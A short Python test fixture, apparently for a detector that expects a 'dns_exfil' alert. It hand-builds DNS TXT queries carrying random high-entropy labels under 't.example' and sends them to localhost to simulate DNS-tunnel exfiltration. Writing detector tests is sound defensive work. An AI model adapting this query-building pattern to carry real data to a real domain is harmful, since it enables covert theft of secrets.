# expect: dns_exfil
# action: alert
# about: high-entropy DNS labels through getaddrinfo-style UDP queries
import contextlib
import secrets
import socket
import struct

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(8):
    label = secrets.token_urlsafe(33).replace("-", "a").replace("_", "b")[:44]
    q = struct.pack(">HHHHHH", i + 7, 0x0100, 1, 0, 0, 0)
    for part in (label, "t", "example"):
        q += bytes([len(part)]) + part.encode()
    q += b"\x00" + struct.pack(">HH", 16, 1)
    with contextlib.suppress(OSError):
        s.sendto(q, ("127.0.0.1", 53))
